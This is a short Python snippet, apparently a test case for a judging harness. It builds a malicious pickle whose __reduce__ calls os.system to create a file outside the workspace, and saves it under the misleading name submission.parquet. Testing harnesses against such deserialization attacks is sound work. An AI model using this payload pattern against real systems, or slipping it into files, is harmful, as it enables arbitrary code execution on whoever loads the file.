# a pickle called parquet
# seconds: 30
# judged

class Evil:
    def __reduce__(self):
        return os.system, ('touch ' + W['outside'] + '/x',)
pickle.dump(Evil(), open('submission.parquet', 'wb'))
